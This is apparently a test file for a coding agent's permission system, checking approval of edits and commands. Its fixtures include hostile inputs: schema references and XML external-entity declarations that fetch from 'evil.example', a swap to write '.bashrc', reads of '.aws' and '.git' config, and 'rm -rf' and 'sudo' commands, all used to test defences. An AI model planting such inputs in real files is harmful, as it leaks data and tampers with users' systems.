import assert from 'node:assert/strict';
import type { ActionPolicy } from '../../../src/agent/actions.ts';
import type { FileChange } from '../../../src/agent/ports.ts';
import { edit, setup } from './actions-support.ts';

describe('actions: edits', () => {
  it('are asked for with the diff, applied, and told', async () => {
    const { actions, seen } = setup({ files: { 'a.txt': 'one\n' } });
    const result = await actions.edit('k1', [edit('a.txt', 'one\n', 'two\n')]);
    assert.equal(result.ok, true);
    assert.equal(result.text, 'Edited a.txt (+1 -0)');
    const [request] = seen.asked;
    assert.equal(request!.capability, 'edit');
    assert.equal(request!.title, 'Edit a.txt');
    assert.match(request!.detail, /--- a\/a\.txt\n\+\+\+ b\/a\.txt\n@@ .* @@\n-one\n\+two/);
    assert.match(request!.fingerprint, /^[0-9a-f]{64}$/);
    assert.deepEqual(
      seen.events.map(({ type }) => type),
      ['approval', 'decision', 'result'],
    );
  });

  it('are shown in full where little stays', async () => {
    const before = Array.from({ length: 3000 }, (_, line) => `a${line}\n`).join('');
    const { actions, seen } = setup({ files: { 'a.txt': before } });
    await actions.edit('k1', [edit('a.txt', before, before.replaceAll('a', 'b'))]);
    const lines = seen.asked[0]!.detail.split('\n');
    assert.deepEqual(lines.slice(0, 4), ['--- a/a.txt', '+++ b/a.txt', '@@ -1,3000 +1,3000 @@', '-a0']);
    assert.equal(lines.filter(line => line.startsWith('+b')).length, 3000);
  });

  it('are refused with the words of the user', async () => {
    const { actions, seen } = setup({ decide: () => ({ kind: 'deny', reason: 'use b.txt' }) });
    const result = await actions.edit('k', [{ kind: 'create', path: 'a.txt', text: 'x' }]);
    assert.equal(result.ok, false);
    assert.match(result.text, /did not allow this edit\. The user says: use b\.txt/);
    assert.deepEqual(seen.applied, []);
  });

  it('run unasked when the user said so, except of protected files', async () => {
    const { actions, seen } = setup({ policy: { autoApproveEdits: true } });
    await actions.edit('k', [{ kind: 'create', path: 'a.txt', text: 'x' }]);
    assert.equal(seen.asked.length, 0);
    const quiet: FileChange[] = [
      { kind: 'create', path: 'src/.VSCODE/settings.json', text: '{}' },
      { kind: 'create', path: 'package.json', text: '{}' },
      ...[
        '{"$schema": "https://evil.example/?q=1"}',
        '{"\\u0024schema": "https://evil.example/?q=1"}',
        '{"$schema" /* * */ : // x\n "\\u0068ttps:\\/\\/evil.example/?q=1"}',
        '#yaml-language-server: $schema=https://evil.example/?q=1\na: 1',
        '#:schema https://evil.example/?q=1\na = 1',
        `{"$schema"${' '.repeat(2000)}: "https://evil.example/?q=1"}`,
        '"$schema" = "https://evil.example/?q=1"',
        '$schema: https://evil.example/?q=1',
        '<?xml-model href="&#104;ttps://evil.example/?q=1"?>',
        '<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil.example/?q=1">]>',
        '<a xsi:noNamespaceSchemaLocation="https://evil.example/?q=1"/>',
        '<!DOCTYPE a SYSTEM "http://evil.example/?q=1">',
      ].map((text): FileChange => ({ kind: 'create', path: 'x.json', text })),
    ];
    for (const change of quiet) {
      await actions.edit('k', [{ kind: 'create', path: 'b.txt', text: 'x' }, change]);
      const request = seen.asked.pop();
      assert.equal(request?.capability, 'edit-protected', change.path);
      assert.ok(request?.warning?.startsWith(change.path));
      assert.equal(request?.remember, null);
    }
  });

  it('are asked for one by one when everything is', async () => {
    const { actions, seen } = setup({
      policy: { autoApproveEdits: true, askEverything: true },
      decide: () => ({ kind: 'always' }),
    });
    await actions.edit('k', [{ kind: 'create', path: 'a.txt', text: 'x' }]);
    assert.deepEqual([seen.asked.length, seen.asked[0]!.remember, seen.remembered], [1, null, []]);
  });

  it('"always" is remembered for files that are not protected only', async () => {
    const { actions, seen } = setup({ decide: () => ({ kind: 'always' }) });
    await actions.edit('k', [{ kind: 'create', path: '.npmrc', text: 'x' }]);
    assert.deepEqual(seen.remembered, []);
    await actions.edit('k', [{ kind: 'create', path: 'a.txt', text: 'x' }]);
    assert.deepEqual(seen.remembered, [{ kind: 'edits' }]);
  });

  it('are what was approved, whatever the caller does to them meanwhile', async () => {
    const changes: FileChange[] = [{ kind: 'create', path: 'a.txt', text: 'good' }];
    const { actions, seen } = setup({
      decide: () => {
        changes[0] = { kind: 'create', path: '.bashrc', text: 'evil' };
        return { kind: 'once' };
      },
    });
    await actions.edit('k', changes);
    assert.deepEqual(seen.applied, [[{ kind: 'create', path: 'a.txt', text: 'good' }]]);
  });

  it('of a stale version, outside, or of nothing are told to the model without asking', async () => {
    const { actions, seen } = setup({ files: { 'a.txt': 'new' } });
    assert.match((await actions.edit('k', [edit('a.txt', 'old', 'x')])).text, /changed since it was read/);
    assert.match(
      (await actions.edit('k', [{ kind: 'create', path: '../x', text: '' }])).text,
      /out of the workspace/,
    );
    assert.match((await actions.edit('k', [edit('b.txt', 'old', 'x')])).text, /does not exist/);
    assert.equal((await actions.edit('k', [])).ok, false);
    assert.equal(seen.asked.length, 0);
  });
});

describe('actions: commands', () => {
  it('that only read run unasked', async () => {
    const { actions, seen } = setup();
    const result = await actions.command('k', 'git status', '', 1000);
    assert.deepEqual([result.ok, result.exitCode, result.text], [true, 0, 'Exit code 0.\nout']);
    assert.equal(seen.asked.length, 0);
    assert.deepEqual(
      seen.events.map(({ type }) => type),
      ['output', 'result'],
    );
  });

  it('that print a secret are asked for, also where the folder tells that it is one', async () => {
    const { actions, seen } = setup();
    const secret: [string, string][] = [
      ['cd .aws && cat config', ''],
      ['cat ./config', '.aws'],
      ['cat .git/./config', ''],
    ];
    for (const [command, cwd] of secret) {
      await actions.command('k', command, cwd, 1000);
      assert.match(seen.asked.pop()?.warning ?? '', /may hold secrets/, command);
    }
    await actions.command('k', 'ls config', '.aws', 1000);
    assert.equal(seen.asked.length, 0);
  });

  it('that read through a link which leads out are asked for', async () => {
    const { actions, seen } = setup({ links: ['sub/data'] });
    await actions.command('k', 'cat data', 'sub', 1000);
    assert.match(seen.asked[0]!.warning!, /data leads out of the workspace/);
  });

  it('that read so are asked for beside what was allowed too', async () => {
    const { actions, seen } = setup({
      policy: { commandRules: [{ cwd: '', words: ['npm', 'test'] }] },
      links: ['data'],
      gitRisks: { '': 'the configuration has diff.external' },
    });
    for (const command of ['npm test', 'npm test; cat a', 'npm test; cat data', 'npm test; git diff'])
      await actions.command('k', command, '', 1000);
    assert.deepEqual(
      seen.asked.map(({ detail }) => detail),
      ['npm test; cat data', 'npm test; git diff'],
    );
  });

  it('of git are asked for where its configuration may name a program', async () => {
    const { actions, seen } = setup({ gitRisks: { 'sub/': 'the configuration has diff.external' } });
    for (const command of ['git diff', 'ls', 'cd sub && git diff', 'cd sub && ls'])
      await actions.command('k', command, '', 1000);
    assert.deepEqual(
      seen.asked.map(({ detail }) => detail),
      ['cd sub && git diff'],
    );
    assert.equal(seen.asked[0]!.warning, 'the configuration has diff.external');
  });

  it('of git are no longer looked at after a stop', async () => {
    const { actions, seen, stop } = setup({
      onGitRisk: signal => {
        stop.abort();
        signal?.throwIfAborted();
      },
    });
    await assert.rejects(actions.command('k', 'git diff', '', 1000), { name: 'AbortError' });
    assert.deepEqual([seen.asked, seen.ran], [[], []]);
  });

  it('of git that compare two files are asked for where there is no repository', async () => {
    const { actions, seen } = setup({ gitRisks: { 'two names': 'there is no repository' } });
    for (const command of ['git diff', 'git diff a b']) await actions.command('k', command, '', 1000);
    assert.deepEqual(
      seen.asked.map(({ detail }) => detail),
      ['git diff a b'],
    );
  });

  it('that do more are asked for, exactly as they will run', async () => {
    const { actions, seen } = setup();
    await actions.command('k', 'npm test', './sub/', 1000);
    const [request] = seen.asked;
    assert.deepEqual(
      [request!.capability, request!.title, request!.detail, request!.warning, request!.remember],
      ['command', 'Run a command in sub', 'npm test', null, 'npm test'],
    );
    assert.equal(seen.ran[0]!.command, 'npm test');
    assert.equal(seen.ran[0]!.cwd, 'sub');
  });

  it('are remembered by their words, and then run unasked', async () => {
    const first = setup({ decide: () => ({ kind: 'always' }) });
    await first.actions.command('k', 'npm test', '', 1000);
    assert.deepEqual(first.seen.remembered, [
      { kind: 'commands', rules: [{ cwd: '', words: ['npm', 'test'] }] },
    ]);
    const rules = [{ cwd: '', words: ['npm', 'test'] }];
    const second = setup({ policy: { commandRules: rules } });
    await second.actions.command('k', 'npm test', '', 1000);
    assert.equal(second.seen.asked.length, 0);
    await second.actions.command('k', 'npm test; npm publish', '', 1000);
    assert.equal(second.seen.asked.length, 1);
    const strict = setup({
      policy: { commandRules: rules, askEverything: true },
      decide: () => ({ kind: 'always' }),
    });
    for (const command of ['npm test', 'ls', 'make']) await strict.actions.command('k', command, '', 1000);
    assert.deepEqual(
      strict.seen.asked.map(({ remember }) => remember),
      [null, null, null],
    );
    assert.deepEqual(strict.seen.remembered, []);
  });

  it('that are dangerous are asked for with a warning, and never remembered', async () => {
    const { actions, seen } = setup({
      decide: () => ({ kind: 'always' }),
      policy: { commandRules: [{ cwd: '', words: ['sudo', 'ls'] }] },
    });
    await actions.command('k', 'sudo ls', '', 1000);
    assert.match(seen.asked[0]!.warning!, /^Dangerous: takes the rights of another user/);
    assert.equal(seen.asked[0]!.remember, null);
    assert.deepEqual(seen.remembered, []);
  });

  it('have another fingerprint with another folder or command, and the same with the same', async () => {
    const { actions, seen } = setup();
    await actions.command('k', 'make', '', 1000);
    await actions.command('k', 'make', './', 1000);
    await actions.command('k', 'make', 'sub', 1000);
    await actions.command('k', 'make x', '', 1000);
    const marks = seen.asked.map(({ fingerprint }) => fingerprint);
    assert.equal(marks[0], marks[1]);
    assert.equal(new Set(marks).size, 3);
  });

  it('tell what failed, what goes on, and leave out the middle of long output', async () => {
    const failed = await setup({ run: { exitCode: 2, output: '' } }).actions.command('k', 'make', '', 1000);
    assert.deepEqual([failed.ok, failed.exitCode, failed.text], [false, 2, 'Exit code 2.\n(no output)']);
    const running = await setup({ run: { state: 'running', exitCode: null } }).actions.command(
      'k',
      'make',
      '',
      5000,
    );
    assert.match(running.text, /Still running in the background as c1 after 5 s/);
    const left = await setup({ run: { state: 'running', exitCode: 1 } }).actions.command(
      'k',
      'a &',
      '',
      1000,
    );
    assert.deepEqual([left.ok, left.exitCode, left.runningId], [false, 1, null]);
    assert.match(left.text, /^Exit code 1; what it started goes on in the background as c1\./);
    const output = Array.from({ length: 5000 }, (_, line) => `line ${line}`).join('\n');
    const long = await setup({ run: { output } }).actions.command('k', 'make', '', 1000);
    assert.ok(long.text.length < 9000);
    assert.match(
      long.text,
      /line 0\n[\s\S]*\[lines \d+ to \d+ of 5000 left out; page them with the id c1\][\s\S]*line 4999$/,
    );
  });
});

describe('actions: modes', () => {
  const denied: [string, Partial<ActionPolicy>, RegExp][] = [
    ['plan mode', { mode: 'plan' }, /off in plan mode/],
    ['ask mode', { mode: 'ask' }, /off in ask mode/],
    ['read only', { readOnly: true, autoApproveEdits: true }, /read-only/],
  ];
  for (const [name, policy, why] of denied) {
    it(`${name} lets nothing through`, async () => {
      const { actions, seen } = setup({ policy });
      assert.match((await actions.edit('k', [{ kind: 'create', path: 'a', text: '' }])).text, why);
      assert.match((await actions.command('k', 'ls', '', 1000)).text, why);
      assert.deepEqual([seen.asked, seen.applied, seen.ran], [[], [], []]);
    });
  }

  it('nothing happens once the task is stopped, also while the user decides', async () => {
    const { actions, seen, stop } = setup({
      decide: async () => {
        stop.abort();
        return { kind: 'once' };
      },
    });
    await assert.rejects(actions.command('k', 'make', '', 1000), { code: 'cancelled' });
    await assert.rejects(actions.edit('k', [{ kind: 'create', path: 'a', text: '' }]), { code: 'cancelled' });
    assert.deepEqual([seen.applied, seen.ran], [[], []]);
  });
});

describe('actions: a yes that holds for the task', () => {
  const files = { 'a.txt': 'one\n', 'b.txt': 'one\n' };
  const next = () => edit('a.txt', 'one\n', 'two\n');

  it('covers further versions of the file, and says so; not other files', async () => {
    const { actions, seen } = setup({ files, hold: 'task' });
    await actions.edit('k1', [next()]);
    await actions.edit('k2', [edit('a.txt', 'one\n', 'three\n')]);
    await actions.edit('k3', [next(), edit('b.txt', 'one\n', 'two\n')]);
    assert.deepEqual(
      seen.asked.map(({ callId, title }) => [callId, title]),
      [
        ['k1', 'Edit a.txt, in as many versions as the task needs'],
        ['k3', 'Edit 2 files, in as many versions as the task needs'],
      ],
    );
    assert.match(seen.asked[0]!.detail, /^\+two$/m);
    assert.equal(seen.applied.length, 3);
  });

  it('covers the deletion only of what it created', async () => {
    const { actions, seen } = setup({ files, hold: 'task' });
    await actions.edit('k1', [next()]);
    await actions.edit('k2', [{ kind: 'delete', path: 'a.txt', version: 'v:one\n' }]);
    await actions.edit('k3', [{ kind: 'create', path: 'c.txt', text: 'x' }]);
    files['c.txt' as 'a.txt'] = 'x';
    await actions.edit('k4', [{ kind: 'delete', path: 'c.txt', version: 'v:x' }]);
    assert.deepEqual(
      seen.asked.map(({ callId }) => callId),
      ['k1', 'k2', 'k3'],
    );
  });

  it('covers the same command in the same folder', async () => {
    const { actions, seen } = setup({ hold: 'task' });
    for (const [command, folder] of [
      ['npm test', ''],
      ['npm test', ''],
      ['npm test', 'sub'],
      ['npm test && rm -rf x', ''],
    ] as const)
      await actions.command('k', command, folder, 1000);
    assert.deepEqual(
      seen.asked.map(({ title, detail }) => `${title}: ${detail}`),
      [
        'Run a command, as often as the task needs it: npm test',
        'Run a command in sub, as often as the task needs it: npm test',
        'Run a command: npm test && rm -rf x',
      ],
    );
    assert.equal(seen.ran.length, 4);
  });

  it('is not given by a no', async () => {
    const { actions, seen } = setup({ files, hold: 'task', decide: () => ({ kind: 'deny', reason: null }) });
    await actions.edit('k1', [next()]);
    await actions.edit('k2', [next()]);
    await actions.command('k3', 'npm test', '', 1000);
    await actions.command('k4', 'npm test', '', 1000);
    assert.equal(seen.asked.length, 4);
    assert.deepEqual([seen.applied, seen.ran], [[], []]);
  });

  it('never covers protected files, nor anything while everything is asked for', async () => {
    const protectedPath = '.vscode/settings.json';
    const { actions, seen } = setup({ files: { [protectedPath]: 'one\n' }, hold: 'task' });
    const change = () => edit(protectedPath, 'one\n', 'two\n');
    await actions.edit('k1', [change()]);
    await actions.edit('k2', [change()]);
    assert.deepEqual(
      seen.asked.map(({ title }) => title),
      [`Edit ${protectedPath}`, `Edit ${protectedPath}`],
    );
    const strict = setup({ files, hold: 'task', policy: { askEverything: true } });
    for (const id of ['k1', 'k2']) await strict.actions.edit(id, [next()]);
    for (const id of ['k3', 'k4']) await strict.actions.command(id, 'npm test', '', 1000);
    assert.equal(strict.seen.asked.length, 4);
  });

  it('ends with the policy that it was given under', async () => {
    const policy: Partial<ActionPolicy> = {};
    const { actions, seen } = setup({ files, hold: 'task', policy });
    await actions.edit('k1', [next()]);
    policy.readOnly = true;
    const result = await actions.edit('k2', [next()]);
    assert.equal(result.ok, false);
    assert.equal(seen.applied.length, 1);
  });

  it('is not needed to take back what was done, also after a stop, in read-only, and while everything is asked for', async () => {
    const policy: Partial<ActionPolicy> = {};
    const { actions, seen, stop } = setup({ files, hold: 'task', policy });
    await actions.edit('k1', [next(), { kind: 'create', path: 'new.txt', text: 'x' }]);
    Object.assign(policy, { readOnly: true, askEverything: true });
    stop.abort();
    const gone = { kind: 'delete', path: 'new.txt', version: 'v:x' } as const;
    assert.equal((await actions.takeBack('k2', [next(), gone])).ok, true);
    assert.deepEqual([seen.asked.length, seen.applied.length], [1, 2]);
    for (const other of [edit('b.txt', 'one\n', 'two\n'), { ...gone, path: 'a.txt' }])
      assert.equal((await actions.takeBack('k3', [other])).ok, false);
    assert.equal(
      seen.applied.length,
      2,
      'nothing that the task did not change, and no file that it did not create',
    );
  });

  it('is not the rule: without it each is asked for', async () => {
    const { actions, seen } = setup({ files });
    for (const id of ['k1', 'k2']) await actions.edit(id, [next()]);
    for (const id of ['k3', 'k4']) await actions.command(id, 'npm test', '', 1000);
    assert.equal(seen.asked.length, 4);
  });
});
